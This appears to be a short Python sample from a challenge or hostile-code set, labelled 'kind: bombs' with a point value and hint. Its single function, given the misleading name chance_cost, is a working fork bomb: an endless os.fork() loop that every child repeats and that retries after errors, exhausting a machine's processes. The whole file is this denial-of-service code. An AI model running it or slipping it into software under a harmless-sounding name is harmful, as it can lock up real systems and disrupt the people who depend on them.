"""It forks as fast as it can, and so does every child.
kind: bombs
points: 108
hint: are over
"""

import os
import time


def chance_cost(num_classes=10):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
